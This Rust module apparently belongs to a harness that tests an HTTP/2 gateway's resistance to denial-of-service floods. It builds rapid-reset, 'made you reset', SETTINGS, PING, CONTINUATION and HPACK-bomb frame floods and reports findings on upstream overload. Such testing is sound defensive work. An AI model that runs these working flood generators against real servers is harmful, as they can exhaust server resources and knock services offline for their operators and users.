//! HTTP/2 that keeps a server busy with nothing.

use std::sync::Arc;
use std::time::Duration;

use tokio::time::Instant;

use crate::http2::{ACK, END_HEADERS, END_STREAM, block, frame, kind, literal, pair, settings};

use super::case::describe;
use super::requests::fields;
use super::swarm::{ATTACKERS, Flood};
use super::{Attack, Family, NOT_SPOKEN, Outcome, Stage};

/// How many streams the gateway may let a connection have.
pub(super) const STREAMS_AT_ONCE: usize = 200;
/// Connections to the upstream that the good client may need besides.
const OTHERS: usize = 16;

/// Makes a flood for one size: the number of frames in all.
type Make = fn(&str, usize) -> Flood;

pub(super) fn attacks() -> Vec<Attack> {
    let table: [(&str, usize, Make); 21] = [
        ("rapid reset", 100_000, |token, total| resets(Some(token), total)),
        ("rapid reset without a token", 100_000, |_, total| resets(None, total)),
        ("reset of requests under way", 4_000, |token, total| {
            under_way(token, total, |stream| frame(kind::RST_STREAM, 0, stream, &[0, 0, 0, 8]))
        }),
        ("made you reset: requests under way", 4_000, |token, total| {
            under_way(token, total, |stream| frame(kind::WINDOW_UPDATE, 0, stream, &[0x7f, 0xff, 0xff, 0xff]))
        }),
        ("made you reset: window of 0", 20_000, |token, total| {
            broken(token, total, |stream| frame(kind::WINDOW_UPDATE, 0, stream, &[0; 4]))
        }),
        ("made you reset: window too large", 20_000, |token, total| {
            broken(token, total, |stream| frame(kind::WINDOW_UPDATE, 0, stream, &[0x7f, 0xff, 0xff, 0xff]))
        }),
        ("made you reset: DATA behind the end", 20_000, |token, total| {
            broken(token, total, |stream| frame(kind::DATA, 0, stream, b"x"))
        }),
        ("made you reset: HEADERS behind the end", 20_000, |token, total| {
            broken(token, total, |stream| {
                frame(kind::HEADERS, END_HEADERS, stream, &block(&[pair("x", "y")]))
            })
        }),
        ("made you reset: depends on itself", 20_000, |token, total| {
            broken(token, total, |stream| {
                let mut payload = stream.to_be_bytes().to_vec();
                payload.push(1);
                frame(kind::PRIORITY, 0, stream, &payload)
            })
        }),
        ("malformed requests", 20_000, |_, total| {
            many(total, 1, |stream| {
                frame(kind::HEADERS, END_HEADERS | END_STREAM, stream, &block(&[pair("x\n", "y")]))
            })
        }),
        ("SETTINGS", 100_000, |_, total| many(total, 0, |_| settings(&[(4, 65_535)]))),
        ("SETTINGS, nothing read", 100_000, |_, total| unread(many(total, 0, |_| settings(&[(4, 65_535)])))),
        ("SETTINGS of many values", 10_000, |_, total| many(total, 0, |_| settings(&[(1, 4096); 2_000]))),
        ("PING", 100_000, |_, total| many(total, 0, |_| frame(kind::PING, 0, 0, b"12345678"))),
        ("PING, nothing read", 100_000, |_, total| {
            unread(many(total, 0, |_| frame(kind::PING, 0, 0, b"12345678")))
        }),
        ("PING that answers nothing", 100_000, |_, total| {
            many(total, 0, |_| frame(kind::PING, ACK, 0, b"12345678"))
        }),
        ("WINDOW_UPDATE", 100_000, |_, total| {
            many(total, 0, |_| frame(kind::WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]))
        }),
        ("PRIORITY", 100_000, |_, total| {
            many(total, 1, |stream| frame(kind::PRIORITY, 0, stream | 0x1000_0001, &[0, 0, 0, 0, 1]))
        }),
        ("frames of an unknown kind", 100_000, |_, total| many(total, 0, |_| frame(0x77, 0, 0, b"x"))),
        ("empty DATA, accepted", 100_000, |token, total| empty_data(Some(token), total)),
        ("empty DATA, refused", 100_000, |_, total| empty_data(None, total)),
    ];
    let mut attacks: Vec<Attack> =
        table.into_iter().map(|(name, total, make)| flood(name, total, "frames", make)).collect();
    attacks.push(flood("CONTINUATION without an end", 8_000, "frames of 16 KiB", |_, total| {
        continuations(total)
    }));
    attacks.push(flood("empty CONTINUATION without an end", 100_000, "frames", |_, total| {
        let first = frame(kind::HEADERS, END_STREAM, 1, &[]);
        Flood { first, ..many(total, 0, |_| frame(kind::CONTINUATION, 0, 1, &[])) }
    }));
    attacks.push(flood("HPACK bomb", 4_000, "frames of 16 KiB", |_, total| bombs(total, &"x".repeat(3_900))));
    attacks.push(flood("HPACK bomb of small fields", 4_000, "frames of 16 KiB", |_, total| bombs(total, "")));
    attacks.push(flood("tables of HPACK", 20_000, "frames", |_, total| {
        // A new size of the dynamic table, again and again, is no field at all.
        many(total, 1, |stream| frame(kind::HEADERS, END_STREAM | END_HEADERS, stream, &[0x20; 1_000]))
    }));
    attacks
}

fn flood(name: &str, total: usize, what: &'static str, make: Make) -> Attack {
    Attack::new(format!("flood: {name}"), Family::Denial, move |stage| {
        Box::pin(async move { run(make, total, what, stage).await })
    })
}

async fn run(make: Make, total: usize, what: &str, stage: Stage<'_>) -> Outcome {
    let total = if stage.full { total.max(100_000) } else { total };
    let begun = Instant::now();
    let flooded = make(&stage.subject.tokens.long, total).run(stage.subject.addr, stage.lasts).await;
    let took = begun.elapsed().as_secs_f64();
    let seen = stage.seen().await;
    let of = if flooded.sent < total { format!(" of {total}") } else { String::new() };
    let sent = format!("{}{of} {what} in {took:.1} s, {} connections", flooded.sent, flooded.connections);
    let mut findings = seen.problems.clone();
    findings.extend(flooded.finding(total).filter(|_| stage.http2));
    findings.extend(too_many(stage));
    let not_applicable = (!stage.http2).then_some(NOT_SPOKEN);
    Outcome { sent, client: flooded.describe(), upstream: describe(&seen), findings, not_applicable }
}

/// What is reset, by whomever, makes room for the next only once it is over: more than the streams that an attacker may have
/// at once are never under way.
fn too_many(stage: Stage<'_>) -> Vec<String> {
    let record = &stage.subject.upstream.record;
    let (under_way, open) = stage.before;
    let room = ATTACKERS * STREAMS_AT_ONCE;
    [
        ("requests under way", record.most_under_way().saturating_sub(under_way), room),
        ("connections to the upstream", record.most_open().saturating_sub(open), room + OTHERS),
    ]
    .into_iter()
    .filter(|(_, most, room)| most > room)
    .map(|(what, most, room)| format!("{most} {what} at once, of {room} that there may be"))
    .collect()
}

fn many(total: usize, streams: u32, each: impl Fn(u32) -> Vec<u8> + Send + Sync + 'static) -> Flood {
    const BATCH: u32 = 50;
    let batch =
        move |stream: u32| -> Vec<u8> { (0..BATCH).flat_map(|number| each(stream + 2 * number)).collect() };
    // What is the same each time is made once: the attackers share their cores with the good client.
    let same = (streams == 0).then(|| batch(1));
    let batch = move |stream| same.clone().unwrap_or_else(|| batch(stream));
    let streams = streams * BATCH;
    Flood {
        first: Vec::new(),
        batch: Arc::new(batch),
        frames: 50,
        streams,
        total,
        reads: true,
        pause: Duration::ZERO,
    }
}

fn unread(flood: Flood) -> Flood {
    Flood { reads: false, ..flood }
}

fn resets(token: Option<&str>, total: usize) -> Flood {
    let block = fields(token, "GET", "/v1/case");
    many(total, 1, move |stream| {
        let mut frames = frame(kind::HEADERS, END_HEADERS | END_STREAM, stream, &block);
        frames.extend(frame(kind::RST_STREAM, 0, stream, &[0, 0, 0, 8]));
        frames
    })
}

/// A request each, and behind it what makes the server reset it.
fn broken(token: &str, total: usize, what: fn(u32) -> Vec<u8>) -> Flood {
    let block = fields(Some(token), "GET", "/v1/case");
    many(total, 1, move |stream| {
        let mut frames = frame(kind::HEADERS, END_HEADERS | END_STREAM, stream, &block);
        frames.extend(what(stream));
        frames
    })
}

/// Requests that are not answered, and with the next ones what has them reset.
fn under_way(token: &str, total: usize, what: fn(u32) -> Vec<u8>) -> Flood {
    let block = fields(Some(token), "GET", "/v1/hold");
    many(total, 1, move |stream| {
        let mut frames = frame(kind::HEADERS, END_HEADERS | END_STREAM, stream, &block);
        // A batch has 50 streams, and streams have every other number.
        if let Some(before) = stream.checked_sub(100) {
            frames.extend(what(before));
        }
        frames
    })
    .paced()
}

fn empty_data(token: Option<&str>, total: usize) -> Flood {
    let first = frame(kind::HEADERS, END_HEADERS, 1, &fields(token, "POST", "/v1/case"));
    Flood { first, ..many(total, 0, |_| frame(kind::DATA, 0, 1, &[])) }
}

fn continuations(total: usize) -> Flood {
    let mut block = Vec::new();
    while block.len() < 16_000 {
        block.extend(crate::http2::block(&[pair("x", &"y".repeat(100))]));
    }
    let piece = frame(kind::CONTINUATION, 0, 1, &block);
    Flood {
        first: frame(kind::HEADERS, END_STREAM, 1, &fields(None, "GET", "/v1/case")),
        batch: Arc::new(move |_| piece.clone()),
        frames: 1,
        streams: 0,
        total,
        reads: true,
        pause: Duration::ZERO,
    }
}

/// A field is put into the table once, and then named by one byte, 16,000 times in a frame.
fn bombs(total: usize, value: &str) -> Flood {
    let mut entry = fields(None, "GET", "/v1/case");
    entry.push(0x40);
    literal(b"x", &mut entry);
    literal(value.as_bytes(), &mut entry);
    let bomb = frame(kind::CONTINUATION, END_HEADERS, 0, &vec![0xbe; 16_000]);
    many(total, 1, move |stream| {
        let mut frames = frame(kind::HEADERS, END_STREAM, stream, &entry);
        let mut bomb = bomb.clone();
        bomb[5..9].copy_from_slice(&stream.to_be_bytes());
        frames.extend(bomb);
        frames
    })
}
